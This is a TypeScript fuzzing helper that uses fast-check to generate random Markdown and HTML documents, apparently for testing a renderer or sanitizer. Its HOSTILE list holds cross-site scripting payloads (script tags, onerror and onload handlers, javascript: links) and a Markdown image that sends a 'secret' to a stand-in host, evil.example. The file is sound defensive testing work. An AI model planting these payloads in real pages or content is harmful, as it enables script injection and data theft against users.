import fc from 'fast-check';

export const MARKS =
  '* ** *** _ __ ` `` ``` ~~ ~~~ # ## - + 1. 2) > | |-| [ ] ( ) ! ![ $ \\ \\( \\| --- [x] 0 . , : < = / h http:// \\\n ](tel:1 &amp; ](<'
    .split(' ')
    .concat([
      '\n',
      '\n',
      '\n\n',
      '\r\n',
      ' ',
      ' ',
      '    ',
      '\t',
      'é',
      '字',
      '😀',
      '\ud83d',
      '\u{F0001}',
      '\u0301',
      '\u0301'.repeat(20),
      '\u{1E8D0}',
      '。',
      '“',
      ' ##',
      ' #\n',
    ]);
export const TAGS = [
  '<b>',
  '</b>',
  '<br>',
  '<ul>',
  '<li>',
  '</li>',
  '</ul>',
  '<p>',
  '</p>',
  '<a href="https://x.example">',
  '<https://x.example/a_b>',
  '<help@x.example>',
];
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<b onclick="x()" style="position:fixed">',
  '<a href="javascript:alert(1)">',
  '[x](javascript:alert(1))',
  '![x](data:text/html,x)',
  '![x](https://evil.example/?d=secret)',
  'https://bank.example@evil.example',
];
const WORDS = ['w1', 'w2', 'w3', 'a_b', 'https://a.example/b', '[w4](https://a.example)'];

export const documents = (pieces: readonly string[]) =>
  fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((all) => all.join(''));
/** Any text of marks, tags, hostile pieces and words. */
export const anything = documents([...MARKS, ...TAGS, ...HOSTILE, ...WORDS]);
